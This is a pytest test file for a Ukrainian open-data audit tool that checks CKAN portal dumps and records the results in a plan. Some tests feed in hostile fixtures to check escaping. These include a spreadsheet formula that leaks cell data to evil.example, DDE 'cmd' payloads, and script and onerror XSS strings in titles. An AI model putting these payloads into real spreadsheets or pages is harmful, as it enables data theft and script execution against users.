"""Audit of a `ckanapi dump` file (no portal), and --record into a copy of the plan."""

from __future__ import annotations

import csv
import functools
import io
import json
import os
import re
import shutil
import signal
import subprocess
import threading
import time
import uuid
import zipfile
from collections.abc import Iterator
from datetime import date
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from opendata.audit import run_audit
from opendata.audit.messages import action
from opendata.audit.report import write_outputs
from tests.helpers import (
    DAY_FIRST,
    OPENDATA,
    PACKAGE,
    contrast,
    rewrite_field,
    run_cli,
    save_as_ukrainian_excel,
    write_dates_day_first,
)

GOOD = {
    "name": "public-toilets", "title": "Громадські вбиральні", "notes": "Перелік вбиралень.",
    "tags": [{"name": "вбиральні"}], "maintainer": "Качанський М. Ю.", "maintainer_email": "opendata@example.gov.ua",
    "license_id": "cc-by", "organization": {"name": "kolomyia"}, "groups": [{"name": "misto"}],
    "metadata_created": "2026-01-01T00:00:00", "metadata_modified": "2026-11-01T00:00:00",
    "extras": [{"key": "update_frequency", "value": "Щомісяця"}, {"key": "language", "value": "українська"},
               {"key": "purpose_of_collecting_information", "value": "Постанова КМУ № 835"},
               {"key": "last_modified", "value": "2026-11-20"}, {"key": "spatial", "value": "Коломия"},
               {"key": "temporal_start", "value": "2021-01-01"}],
    "resources": [
        {"id": "r1", "name": "toilets.csv", "format": "CSV", "mimetype": "text/csv", "size": 100,
         "url": "https://kolomyia.example/toilets.csv"},
        {"id": "r2", "name": "schema.json", "format": "JSON", "mimetype": "application/json", "size": 10,
         "url": "https://kolomyia.example/schema.json"},
    ],
}  # fmt: skip
BAD_EMAIL = {**GOOD, "name": "bad-email", "maintainer_email": "приймальня", "extras": []}


@pytest.fixture
def dump(tmp_path: Path) -> Path:
    path = tmp_path / "portal.jsonl"
    path.write_text(
        "\n".join(json.dumps(d, ensure_ascii=False) for d in (GOOD, BAD_EMAIL)) + "\n", encoding="utf-8"
    )
    return path


def test_dump_is_audited_without_fetching(dump):
    audit = run_audit(dump=dump, check_links=False)
    assert [d.name for d in audit.datasets] == ["public-toilets", "bad-email"]
    assert audit.requests == 0 and all(r.status is None for r in audit.resources)
    codes = {(f.dataset, f.code) for f in audit.findings if f.severity != "info"}
    assert codes == {
        ("bad-email", "passport-bad-email"),
        ("bad-email", "passport-missing"),
    }
    good = audit.datasets[0]
    # links unknown: the 80 accessibility points for reachable URLs are not awarded
    assert good.mqa["accessibility"] == 20 and good.mqa_total == 290 and good.stars == 3


def test_a_dataset_with_no_resources_is_said_to_have_no_data(tmp_path):
    """It had only passport-no-schema, and hints to set the format of resources it has not."""
    dump = tmp_path / "portal.jsonl"
    dump.write_text(json.dumps({**GOOD, "name": "empty", "resources": []}, ensure_ascii=False), encoding="utf-8")
    audit = run_audit(dump=dump, check_links=False)
    codes = {(f.code, f.severity, f.params.get("indicator")) for f in audit.findings}
    assert codes == {("passport-no-schema", "error", None), ("stars-no-resources", "error", None)}
    finding = next(f for f in audit.findings if f.code == "stars-no-resources")
    assert finding.render("uk")[0] == "Набір не має жодного ресурсу — даних у ньому немає."
    assert finding.render("en")[0] == "The dataset has no resources: there is no data in it."


def test_the_reports_charts_carry_their_data_for_a_screen_reader(dump, tmp_path):
    """An SVG chart's text is its tick labels only; its values are drawn (WCAG 1.1.1)."""
    result = run_cli("audit", "--dump", dump, "--out", tmp_path / "out")
    assert result.returncode == 0, result.stderr
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    labels = re.findall(r'<svg role="img" aria-label="([^"]*)"', html)
    assert len(labels) == html.count("<svg") == 3  # nothing overdue: said in words, not charted
    assert "<p>Прострочених наборів немає.</p>" in html
    # the two datasets: 3 stars each (no link checked), scores 290 and one lower
    assert "Набори за зірками відкритості. 0★: 0; 1★: 0; 2★: 0; 3★: 2; 4★: 0; 5★: 0" in labels
    assert any(label.startswith("Розподіл оцінок якості метаданих. 0–44: 0;") for label in labels)
    assert any(label.endswith("; 315–359: 0; 360–405: 0") for label in labels)  # 405 is in the last bin


def test_the_reports_headings_read_as_ukrainian(dump, tmp_path):
    """«Щорічний аудит … даних 2026», «Набори даних: 2; Ресурси: 4», a column «рівень»
    beside «Бали», and «Зауважень» for a column's name."""
    result = run_cli("audit", "--dump", dump, "--out", tmp_path / "out", "--year", "2026")
    assert result.returncode == 0, result.stderr
    markdown = (tmp_path / "out" / "report.md").read_text(encoding="utf-8")
    assert markdown.startswith("# Щорічний аудит наборів відкритих даних за 2026 рік\n")
    assert "- Набори даних: 2; ресурси: 4\n" in markdown
    assert "| Набір | Бали | Рівень | Зірки | Зауваження |" in markdown
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert "<h1>Щорічний аудит наборів відкритих даних за 2026 рік</h1>" in html
    english = run_cli("audit", "--dump", dump, "--out", tmp_path / "en", "--year", "2026", "--lang", "en")
    assert english.returncode == 0, english.stderr
    assert (tmp_path / "en" / "report.md").read_text(encoding="utf-8").startswith("# Annual open data audit 2026")


def test_the_reports_scores_are_set_against_what_ckan_metadata_can_reach(dump, tmp_path):
    """DCAT-AP (30) and rights (5) are never awarded: interoperability's best is 80 of 110,
    which the chart showed as 73 %; the report says so, and what each band spans."""
    write_outputs(run_audit(dump=dump, check_links=False), tmp_path / "out")
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert "щонайбільше 370 балів" in html
    assert "Рівні: відмінно 351–405, добре 221–350, достатньо 121–220, погано 0–120." in html
    dimensions = re.search(r'aria-label="(Середня оцінка за вимірами[^"]*)"', html).group(1)
    assert "досяжного максимуму" in dimensions and "Сумісність: 100;" in dimensions


def test_the_reports_overdue_datasets_are_named_by_title_and_its_charts_ids_unique(tmp_path):
    """Each matplotlib SVG numbered its elements from figure_1: 60 ids twice on one page."""
    stale = [{"key": "update_frequency", "value": "Щомісяця"}, {"key": "last_modified", "value": "2026-01-05"}]
    audit = run_audit(dump=_dump_of(tmp_path, {**GOOD, "extras": stale}), check_links=False)
    write_outputs(audit, tmp_path / "out")
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert re.search(r'aria-label="Прострочені набори: днів понад норму. Громадські вбиральні: \d+"', html)
    ids = re.findall(r'\bid="([^"]+)"', html)
    assert len(ids) == len(set(ids)) > 0
    assert set(re.findall(r'(?:url\(#|href="#)([^")]+)', html)) <= set(ids)



def test_a_dollar_sign_in_a_title_is_charted_as_written(tmp_path):
    """matplotlib read «$…$» in a title as TeX: «$\\frac{x$» stopped the audit with a
    ValueError traceback and no report; «$100 і $200» was drawn as italic «100 і 200»."""
    stale = [{"key": "update_frequency", "value": "Щомісяця"}, {"key": "last_modified", "value": "2020-01-01"}]
    titles = ["Ціни $\\frac{x$ у 2021", "Бюджет $100 і $200 на рік"]
    datasets = [{**GOOD, "name": f"d{i}", "title": title, "extras": stale} for i, title in enumerate(titles)]
    result = run_cli("audit", "--dump", _dump_of(tmp_path, *datasets), "--out", tmp_path / "out")
    assert result.returncode == 0, result.stderr
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    chart = re.search(r'<svg role="img" aria-label="Прострочені набори.*?</svg>', html, flags=re.DOTALL).group(0)
    drawn = re.findall(r"<text[^>]*>([^<]*)</text>", chart)
    assert {"Ціни $\\frac{x$ у 2021", "Бюджет $100 і $200 на рік"} <= set(drawn)


def _csv_rows(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def test_portal_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path):
    """A portal's title «=HYPERLINK(…)», organisation «+cmd|…» or licence «@SUM(1+1)» went into
    the audit's CSVs as they were: Excel opening datasets.csv ran them (OWASP CSV injection)."""
    link = '=HYPERLINK("http://evil.example/?leak="&A1,"Відкрити")'
    resource = {"id": "r1", "name": "-2+3+cmd|' /C calc'!A0", "url": "javascript:x", "format": "CSV"}
    formulas = {**GOOD, "name": "formulas", "title": link, "organization": {"name": "+cmd|' /C calc'!A0"},
                "license_id": "@SUM(1+1)", "resources": [resource]}  # fmt: skip
    numbers = {**GOOD, "name": "numbers", "title": "-5", "license_id": "\t=1+1"}
    result = run_cli("audit", "--dump", _dump_of(tmp_path, formulas, numbers), "--out", tmp_path / "out")
    assert result.returncode == 0, result.stderr
    first, second = _csv_rows(tmp_path / "out" / "datasets.csv")
    assert (first["title"], first["organization"], first["license_id"]) == (
        "'" + link, "'+cmd|' /C calc'!A0", "'@SUM(1+1)"
    )
    assert (second["title"], second["license_id"]) == ("-5", "'\t=1+1")  # a number stays a number
    assert _csv_rows(tmp_path / "out" / "resources.csv")[0]["name"] == "'-2+3+cmd|' /C calc'!A0"
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert "'=HYPERLINK" not in html  # the report shows the title as the portal does


def test_a_dataset_name_written_as_text_is_compared_as_the_portals_name(tmp_path):
    """The «'» before «-parks» in datasets.csv is no part of the name: next year's audit
    called the dataset removed and a new one."""
    dump = _dump_of(tmp_path, {**GOOD, "name": "-parks"})
    assert run_cli("audit", "--dump", dump, "--out", tmp_path / "before").returncode == 0
    after = run_cli("audit", "--dump", dump, "--out", tmp_path / "after", "--compare", tmp_path / "before")
    assert after.returncode == 0, after.stderr
    changes = _csv_rows(tmp_path / "after" / "changes.csv")
    assert [(row["name"], row["status"]) for row in changes] == [("'-parks", "same")]


def test_portal_text_in_the_markdown_report_is_text_not_markup(tmp_path):
    """A title «<script>…</script> [click](javascript:…)» went into report.md as it was: a
    viewer rendering the Markdown ran the HTML or showed a link of the portal's choosing."""
    title = "<script>alert(1)</script> [click](javascript:alert(1)) `code` a|b \\<i>"
    licence = "<img src=x onerror=alert(1)>"
    dump = _dump_of(tmp_path, {**GOOD, "title": title, "license_id": licence})
    result = run_cli("audit", "--dump", dump, "--out", tmp_path / "out")
    assert result.returncode == 0, result.stderr
    markdown = (tmp_path / "out" / "report.md").read_text(encoding="utf-8")
    shown = "\\<script\\>alert(1)\\</script\\> \\[click\\](javascript:alert(1)) \\`code\\` a\\|b \\\\\\<i\\>"
    assert f"| {shown} (`public-toilets`) |" in markdown and f"### {shown} (`public-toilets`)" in markdown
    assert not re.search(r"(?<!\\)(<script|<img|\]\(javascript)", markdown)  # none unescaped
    assert "Ліцензія «\\<img src=x onerror=alert(1)\\>» не є відкритою" in markdown


def test_the_report_opens_offline_with_its_one_script_only_for_printing(dump, tmp_path):
    """docs/audit.md said «no scripts» beside the report's one: what it holds is pinned here."""
    write_outputs(run_audit(dump=dump, check_links=False), tmp_path / "out")
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert re.findall(r"<(?:link|img|iframe|object|embed)\b|\bsrc=", html) == []  # nothing fetched
    [script] = re.findall(r"<script>(.*?)</script>", html, re.S)
    assert 'addEventListener("beforeprint"' in script and "d.open = true" in script
    assert html.count("<details") > 0  # the findings open without it, by a click


def test_the_reports_coloured_words_are_legible(dump, tmp_path):
    """Severity and warnings in colour: at least 4.5:1 on white (WCAG 1.4.3)."""
    write_outputs(run_audit(dump=dump, check_links=False), tmp_path / "out")
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    colours = re.findall(r"\.(?:error|warning|info) \{ color: (#[0-9a-f]{6}); \}", html)
    assert len(colours) == 3
    assert [c for c in colours if contrast(c, "#ffffff") < 4.5] == []


def _cards(out: Path) -> list[str]:
    html = (out / "report.html").read_text(encoding="utf-8")
    return [f"{count} {label}" for count, label in re.findall(r'<div class="card"><b>([^<]*)</b>([^<]*)</div>', html)]


def test_the_reports_cards_agree_with_their_numbers(dump, tmp_path):
    """«1 прострочені набори», «12 набори з повним паспортом», «20 Набори даних»."""
    assert run_cli("audit", "--dump", dump, "--out", tmp_path / "uk").returncode == 0
    assert _cards(tmp_path / "uk")[1:] == [
        "2 набори", "4 ресурси", "1 набір з повним паспортом", "0 прострочених наборів",
        "0 непрацюючих посилань", "0 таблиць з помилками", "3 / 2 / 2 помилки / попередження / поради",
    ]  # fmt: skip
    assert run_cli("audit", "--dump", dump, "--out", tmp_path / "en", "--lang", "en").returncode == 0
    assert _cards(tmp_path / "en")[1:] == [
        "2 datasets", "4 resources", "1 dataset with a complete passport", "0 overdue datasets",
        "0 broken links", "0 tables with errors", "3 / 2 / 2 errors / warnings / tips",
    ]  # fmt: skip


@pytest.mark.parametrize(("count", "expected"), [
    (1, "прострочений набір"), (2, "прострочені набори"), (5, "прострочених наборів"), (21, "прострочений набір"),
])  # fmt: skip
def test_a_cards_label_takes_the_form_of_its_number(count, expected):
    from opendata.messages import counted

    assert counted(count, "uk", "overdue_datasets") == f"{count} {expected}"


def test_a_datasets_findings_come_most_severe_first(dump, tmp_path):
    """They came in the order the checks ran: помилка, порада, попередження."""
    assert run_cli("audit", "--dump", dump, "--out", tmp_path / "out").returncode == 0
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    rank = {"помилка": 0, "попередження": 1, "порада": 2}
    for block in re.findall(r"<details[^>]*>(.*?)</details>", html, flags=re.DOTALL):
        severities = [rank[s] for s in re.findall(r'<td class="\w+">(помилка|попередження|порада)</td>', block)]
        assert severities == sorted(severities) and severities


def test_a_last_modified_date_that_is_unreadable_or_in_the_future_is_named_not_fresh(tmp_path):
    """«13.09.2026», «вчора» and «2062-08-19» silently removed the freshness check:
    days_since_modified empty or negative, not overdue, no finding."""
    values = {"dotted": "13.09.2026", "word": "вчора", "future": "2062-08-19"}
    dump = tmp_path / "portal.jsonl"
    dump.write_text("".join(json.dumps({**GOOD, "name": name, "extras": [
        *(e for e in GOOD["extras"] if e["key"] != "last_modified"), {"key": "last_modified", "value": value}
    ]}, ensure_ascii=False) + "\n" for name, value in values.items()), encoding="utf-8")  # fmt: skip
    out = tmp_path / "out"
    result = run_cli("audit", "--dump", dump, "--out", out, "--date", "2026-11-26")
    assert result.returncode == 0, result.stderr
    with (out / "datasets.csv").open(encoding="utf-8", newline="") as stream:
        datasets = {row["name"]: row for row in csv.DictReader(stream)}
    assert {(row["days_since_modified"], row["overdue"]) for row in datasets.values()} == {("", "")}  # unknown
    with (out / "findings.csv").open(encoding="utf-8", newline="") as stream:
        found = {row["dataset"]: row for row in csv.DictReader(stream) if row["code"] == "passport-bad-date"}
    assert {name: row["severity"] for name, row in found.items()} == dict.fromkeys(values, "warning")
    assert found["dotted"]["message"] == (
        "Дата останнього оновлення «13.09.2026» не є датою у форматі РРРР-ММ-ДД; свіжість набору невідома."
    )
    assert found["future"]["message"].startswith(
        "Дата останнього оновлення «2062-08-19» пізніша за дату аудиту (2026-11-26);"
    )
    assert "РРРР-ММ-ДД" in found["word"]["recommendation"]


def test_a_passport_with_an_unofficial_frequency_is_not_complete(tmp_path):
    """A dataset with passport-bad-frequency was counted among «набори з повним паспортом»."""
    monthly = {**GOOD, "name": "monthly-in-words", "extras": [
        {"key": "update_frequency", "value": "раз на місяць"}, *GOOD["extras"][1:]]}  # fmt: skip
    dump = tmp_path / "portal.jsonl"
    dump.write_text("\n".join(json.dumps(d, ensure_ascii=False) for d in (GOOD, monthly)), encoding="utf-8")
    out = tmp_path / "out"
    result = run_cli("audit", "--dump", dump, "--out", out, "--format", "json")
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["passport_complete"] == 1
    with (out / "datasets.csv").open(encoding="utf-8", newline="") as stream:
        missing = {row["name"]: row["passport_missing"] for row in csv.DictReader(stream)}
    assert missing == {"public-toilets": "", "monthly-in-words": "update_frequency"}


def test_garbage_dump_is_a_clear_error(tmp_path):
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"name": "a"}\nnot json\n', encoding="utf-8")
    result = run_cli("audit", "--dump", bad, "--out", tmp_path / "out")
    assert result.returncode == 2 and f"Рядок 2 файлу {bad} — не JSON." in result.stderr


def test_an_audit_of_no_dataset_says_what_to_check(tmp_path, dump):
    """An empty organisation is possible (exit 0), but in a dump more often the name is
    misspelt; a dump of nothing was blamed on an --org not given."""
    empty = tmp_path / "empty.jsonl"
    empty.write_text("", encoding="utf-8")
    result = run_cli("audit", "--dump", empty, "--out", tmp_path / "out")
    assert result.returncode == 0, result.stderr
    assert "Аудит завершено: 0 наборів" in result.stdout
    assert "Увага: не знайдено жодного набору даних, тож оцінки немає. У файлі --dump немає жодного набору" in (
        result.stderr
    )
    misspelt = run_cli("audit", "--dump", dump, "--org", "kolomyia-citi", "--out", tmp_path / "org")
    assert misspelt.returncode == 0, misspelt.stderr
    assert "Найімовірніше, назву організації (--org) вказано неправильно" in misspelt.stderr
    # a dump of nothing is said to be empty with --org too, not blamed on the --org
    empty_of_org = run_cli("audit", "--dump", empty, "--org", "kolomyia-city", "--out", tmp_path / "empty-org")
    assert empty_of_org.returncode == 0, empty_of_org.stderr
    assert "У файлі --dump немає жодного набору" in empty_of_org.stderr
    assert "Найімовірніше" not in empty_of_org.stderr
    assert "У файлі --dump немає жодного набору" in (tmp_path / "empty-org" / "report.md").read_text("utf-8")
    some = run_cli("audit", "--dump", dump, "--out", tmp_path / "some")
    assert some.returncode == 0 and "не знайдено" not in some.stderr


def test_an_audit_of_no_dataset_has_no_score_says_why_and_is_not_recorded(plan_copy, tmp_path):
    """It read «0 з 405 — рівень «погано»» and an empty list of fixes, and was recorded as
    task 5.2 done with «0 наборів … 0/405»: most likely the organisation's name was wrong."""
    empty = tmp_path / "empty.jsonl"
    empty.write_text("", encoding="utf-8")
    before = (plan_copy / "progress_reports.csv").read_bytes()
    result = run_cli("audit", "--dump", empty, "--out", tmp_path / "out", "--record", "--plan", plan_copy,
                     "--date", "2021-11-16", "--evidence", "https://kolomyia.example/a", "--format", "json")  # fmt: skip
    assert result.returncode == 1, result.stderr
    assert (plan_copy / "progress_reports.csv").read_bytes() == before
    printed = json.loads(result.stdout)
    assert printed["ok"] is False and printed["overall_score"] is None and printed["overall_band"] is None
    assert "Аудит не знайшов жодного набору даних, тож його не записано як виконаний" in result.stderr
    markdown = (tmp_path / "out" / "report.md").read_text(encoding="utf-8")
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    why = "Увага: не знайдено жодного набору даних, тож оцінки немає. У файлі --dump немає жодного набору"
    for report in (markdown, html):
        assert why in report and "з 405" not in report and "погано»" not in report
    english = run_cli("audit", "--dump", empty, "--out", tmp_path / "en", "--lang", "en")
    assert english.returncode == 0 and "score — (no dataset found)." in english.stdout
    assert "Note: no dataset was found, so there is no score. The --dump file has no dataset" in (
        tmp_path / "en" / "report.md"
    ).read_text(encoding="utf-8")


def test_a_comparison_with_or_against_an_audit_of_no_dataset_has_no_change_of_score(dump, tmp_path):
    empty = tmp_path / "empty.jsonl"
    empty.write_text("", encoding="utf-8")
    assert run_cli("audit", "--dump", empty, "--out", tmp_path / "none").returncode == 0
    for source, out, previous in ((dump, "some", "none"), (empty, "none-again", "some")):
        result = run_cli("audit", "--dump", source, "--out", tmp_path / out, "--compare", tmp_path / previous,
                         "--format", "json")  # fmt: skip
        assert result.returncode == 0, result.stderr
        assert json.loads(result.stdout)["previous"]["overall_change"] is None
        markdown = (tmp_path / out / "report.md").read_text(encoding="utf-8")
        assert re.search(r"Попередній аудит \(.*\): (— → \d+|\d+ → —) \(—\)", markdown)


def test_record_appends_a_task_5_2_row(dump, plan_copy, tmp_path):
    out = tmp_path / "audit"
    result = run_cli(
        "audit", "--dump", dump, "--out", out, "--record", "--plan", plan_copy, "--date", "2021-11-15",
        "--evidence", "https://kolomyia.example/audit-2021",
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert result.stderr.strip().endswith(f"у {plan_copy / 'progress_reports.csv'}.")  # "Записано …"
    with (plan_copy / "progress_reports.csv").open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    row = rows[-1]
    assert (row["task_id"], row["period"], row["report_date"], row["status"]) == (
        "5.2",
        "2021-Q4",
        "2021-11-15",
        "done",
    )
    assert "2 набори, " in row["summary"] and "report.html" not in row["summary"]  # the evidence is the link
    assert row["reported_by"] == "tokarchuk-o-v"
    assert row["evidence_url"] == "https://kolomyia.example/audit-2021"
    checked = json.loads(run_cli("validate", plan_copy, "--format", "json").stdout)
    assert checked["valid"] and checked["warning_count"] == 1  # only the decision's number 1.8 printed twice
    again = run_cli(
        "audit", "--dump", dump, "--out", out, "--record", "--plan", plan_copy, "--date", "2021-11-15",
        "--evidence", "https://kolomyia.example/audit-2021",
    )  # fmt: skip
    assert again.returncode == 0 and "вже записано (2021-Q4-5.2-audit-01)" in again.stderr
    with (plan_copy / "progress_reports.csv").open(encoding="utf-8", newline="") as stream:
        assert len(list(csv.DictReader(stream))) == len(rows)  # a run again added no second record


AUDIT_TITLE = "Проведення щорічного аудиту наборів відкритих даних"
CHARTER_TITLE = "Здійснення заходів із приєднання КМР до Міжнародної хартії відкритих даних"


def retitle_tasks(plan: Path, titles: dict[str, str]) -> None:
    """Give tasks of the plan's tasks.csv other titles, as another council's plan has."""
    tasks = plan / "tasks.csv"
    with tasks.open(encoding="utf-8", newline="") as stream:
        reader = csv.DictReader(stream)
        header, rows = reader.fieldnames, list(reader)
    with tasks.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, fieldnames=header, lineterminator="\n")
        writer.writeheader()
        writer.writerows({**row, "title_uk": titles.get(row["task_id"], row["title_uk"])} for row in rows)


def test_record_goes_under_the_plans_own_audit_task(dump, plan_copy, tmp_path):
    """Another council numbers its open-data audit 5.4: the record went under 5.2 (exit 0)."""
    retitle_tasks(plan_copy, {"5.2": CHARTER_TITLE, "5.4": AUDIT_TITLE + " міста Снятина"})
    result = run_cli("audit", "--dump", dump, "--out", tmp_path / "a", "--record", "--plan", plan_copy,
                     "--date", "2021-11-15")  # fmt: skip
    assert result.returncode == 0, result.stderr
    with (plan_copy / "progress_reports.csv").open(encoding="utf-8", newline="") as stream:
        row = list(csv.DictReader(stream))[-1]
    assert (row["report_id"], row["task_id"]) == ("2021-Q4-5.4-audit-01", "5.4")


def test_record_without_a_known_audit_task_is_refused_before_the_crawl(dump, plan_copy, tmp_path):
    retitle_tasks(plan_copy, {"5.2": "Проведення щорічного огляду наборів, розміщених на порталі"})
    before = (plan_copy / "progress_reports.csv").read_bytes()
    command = ["audit", "--dump", dump, "--out", tmp_path / "a", "--record", "--plan", plan_copy,
               "--date", "2021-11-15"]  # fmt: skip
    uk = run_cli(*command)
    assert uk.returncode == 2, uk.stderr
    assert f"У плані «{plan_copy}» немає завдання, назва якого говорить про аудит чи інвентаризацію" in uk.stderr
    assert "Вкажіть завдання плану, під яким записати аудит: --task НОМЕР" in uk.stderr
    assert "Аудит не розпочато." in uk.stderr and not (tmp_path / "a").exists()
    retitle_tasks(plan_copy, {"5.2": AUDIT_TITLE, "5.4": "Інвентаризація відкритих даних"})
    en = run_cli(*command, "--lang", "en", "--format", "json")
    assert en.returncode == 2 and json.loads(en.stdout)["error"] == "NoAuditTask"
    assert "Several tasks of the plan" in en.stderr and "5.4 «Інвентаризація відкритих даних»" in en.stderr
    assert "--task ID" in en.stderr
    assert run_cli(*command, "--task", "9.9").returncode == 2
    assert (plan_copy / "progress_reports.csv").read_bytes() == before
    chosen = run_cli(*command, "--task", "5.2")
    assert chosen.returncode == 0, chosen.stderr
    assert "2021-Q4-5.2-audit-01" in chosen.stderr


def test_evidence_without_record_is_a_usage_error(dump, tmp_path):
    result = run_cli("audit", "--dump", dump, "--out", tmp_path / "a", "--evidence", "https://x.example/a")
    assert result.returncode == 2 and "--evidence можна вказати лише з --record" in result.stderr


def test_record_appends_to_a_table_saved_by_a_ukrainian_excel(dump, plan_with_reports, tmp_path):
    """The row is added in the file's own semicolons and line ends; the rows already
    there stay byte for byte as the officer saved them (they were read with commas:
    a KeyError, and a rewrite would have mangled them)."""
    reports = plan_with_reports / "progress_reports.csv"
    save_as_ukrainian_excel(reports)
    before = reports.read_bytes()
    result = run_cli("audit", "--dump", dump, "--out", tmp_path / "a", "--record", "--plan", plan_with_reports,
                     "--date", "2021-11-15")  # fmt: skip
    assert result.returncode == 0, result.stderr
    after = reports.read_bytes()
    assert after.startswith(before) and after.count(b"\r\n") == before.count(b"\r\n") + 1
    added = after[len(before) :].decode("utf-8")
    assert added.startswith("2021-Q4-5.2-audit-01;5.2;2021-Q4;2021-11-15;done;") and added.endswith("\r\n")
    assert run_cli("validate", plan_with_reports).returncode == 0


def test_record_writes_the_date_in_the_schemas_own_format(dump, plan_with_reports, tmp_path):
    """A plan whose schemas declare day-first dates (``%d.%m.%Y``) gets its record's date
    so, «15.11.2021»: the record read the period as ISO dates and refused the plan as
    not the plan's, and an ISO date written into such a table makes it invalid."""
    write_dates_day_first(plan_with_reports)
    reports = plan_with_reports / "progress_reports.csv"
    result = run_cli("audit", "--dump", dump, "--out", tmp_path / "a", "--record", "--plan", plan_with_reports,
                     "--date", "2021-11-15")  # fmt: skip
    assert result.returncode == 0, result.stderr
    with reports.open(encoding="utf-8", newline="") as stream:
        row = list(csv.DictReader(stream))[-1]
    assert (row["report_id"], row["report_date"], row["reach"]) == ("2021-Q4-5.2-audit-01", "15.11.2021", "")
    assert run_cli("validate", plan_with_reports).returncode == 0
    before = reports.read_bytes()
    again = run_cli("audit", "--dump", dump, "--out", tmp_path / "b", "--record", "--plan", plan_with_reports,
                    "--date", "2021-11-15")  # fmt: skip
    assert again.returncode == 0 and "вже записано (2021-Q4-5.2-audit-01)" in again.stderr
    late = run_cli("audit", "--dump", dump, "--out", tmp_path / "c", "--record", "--plan", plan_with_reports,
                   "--date", "2026-11-26", "--lang", "en")  # fmt: skip
    assert late.returncode == 1
    assert "Date «26.11.2026» is outside the plan period (01.04.2021 – 31.12.2021)." in late.stderr
    assert reports.read_bytes() == before


def test_record_writes_its_cells_in_the_schemas_own_missing_value(dump, plan_copy, tmp_path):
    """The record's empty reach is written as the package's own missing value, «-»:
    an empty cell against ``missingValues: ["-"]`` is no integer."""
    descriptor = json.loads((plan_copy / "datapackage.json").read_text(encoding="utf-8"))
    reports = next(r for r in descriptor["resources"] if r["name"] == "progress_reports")
    schema = json.loads((plan_copy / reports["schema"]).read_text(encoding="utf-8"))
    schema["missingValues"] = ["-"]
    (plan_copy / reports["schema"]).write_text(json.dumps(schema, ensure_ascii=False), encoding="utf-8")
    result = run_cli("audit", "--dump", dump, "--out", tmp_path / "a", "--record", "--plan", plan_copy,
                     "--date", "2021-11-15", "--evidence", "https://kolomyia.example/audit-2021")  # fmt: skip
    assert result.returncode == 0, result.stderr
    with (plan_copy / "progress_reports.csv").open(encoding="utf-8", newline="") as stream:
        row = list(csv.DictReader(stream))[-1]
    assert (row["report_date"], row["reach"]) == ("2021-11-15", "-")
    assert run_cli("validate", plan_copy).returncode == 0


def test_record_outside_the_plan_period_is_refused(dump, plan_copy, tmp_path):
    before = (plan_copy / "progress_reports.csv").read_bytes()
    result = run_cli("audit", "--dump", dump, "--out", tmp_path / "a", "--record", "--plan", plan_copy,
                     "--date", "2026-11-26", "--lang", "en")  # fmt: skip
    assert result.returncode == 1
    assert result.stderr.startswith("The audit was not recorded in the plan.\nDetails: ")
    assert "2026-Q4» is not within the plan period" in result.stderr  # the validator's own rules
    assert "2026-11-26» is outside the plan period" in result.stderr
    assert (plan_copy / "progress_reports.csv").read_bytes() == before
    ukrainian = run_cli("audit", "--dump", dump, "--out", tmp_path / "b", "--record", "--plan", plan_copy,
                        "--date", "2026-11-26")  # fmt: skip
    assert "Перевірка плану відхилила б такий запис" in ukrainian.stderr
    assert "The plan validator" not in ukrainian.stderr


def test_a_script_reads_what_the_audit_wrote_and_recorded(dump, plan_copy, tmp_path):
    """The JSON was printed before the record was tried: a refused record exited 1 with
    a summary that said nothing of it, and no JSON named the files or the record."""
    refused = run_cli("audit", "--dump", dump, "--out", tmp_path / "a", "--record", "--plan", plan_copy,
                      "--date", "2026-11-26", "--format", "json")  # fmt: skip
    assert refused.returncode == 1
    answer = json.loads(refused.stdout)
    assert answer["ok"] is False and "Перевірка плану відхилила б такий запис" in answer["record"]["refused"]
    assert answer["report"] == str((tmp_path / "a" / "report.html").resolve())
    done = run_cli("audit", "--dump", dump, "--out", tmp_path / "b", "--record", "--plan", plan_copy,
                   "--date", "2021-11-15", "--format", "json")  # fmt: skip
    assert done.returncode == 0
    answer = json.loads(done.stdout)
    assert answer["ok"] is True and answer["out_dir"] == str(tmp_path / "b")
    assert answer["record"] == {"report_id": "2021-Q4-5.2-audit-01", "path": str(plan_copy / "progress_reports.csv")}


def test_a_dump_that_is_not_json_lines_is_named(tmp_path):
    dump = tmp_path / "portal.jsonl"
    dump.write_text("<html>not a dump</html>\n", encoding="utf-8")
    result = run_cli("audit", "--dump", dump, "--out", tmp_path / "a")
    assert result.returncode == 2
    lead, detail = result.stderr.strip().splitlines()
    assert lead == "Не вдалося прочитати портал або його вивантаження (--dump)."
    # which line, what a dump is, and how to make one: in Ukrainian, not «line 1: not JSON (Expecting value)»
    assert detail == (f"Рядок 1 файлу {dump} — не JSON. Вивантаження (--dump) — це файл, який записує ckanapi "
                      "dump datasets: по одному об'єкту JSON (набору даних) у кожному рядку. Вивантажте портал ще "
                      "раз (ckanapi dump datasets --all -O portal.jsonl -r АДРЕСА) або вкажіть --portal АДРЕСА.")
    english = run_cli("audit", "--dump", dump, "--out", tmp_path / "a", "--lang", "en")
    assert f"Line 1 of {dump} is not JSON. A dump (--dump) is the file ckanapi dump datasets writes" in (
        english.stderr
    )
    as_json = run_cli("audit", "--dump", dump, "--out", tmp_path / "a", "--format", "json")
    assert as_json.returncode == 2 and json.loads(as_json.stdout)["error"] == "PortalUnreadable"


def test_national_register_example_is_read_and_compared(dump):
    register = Path(__file__).parent.parent / "examples" / "audit-portal" / "register-example.csv"
    audit = run_audit(dump=dump, check_links=False, register_file=register)
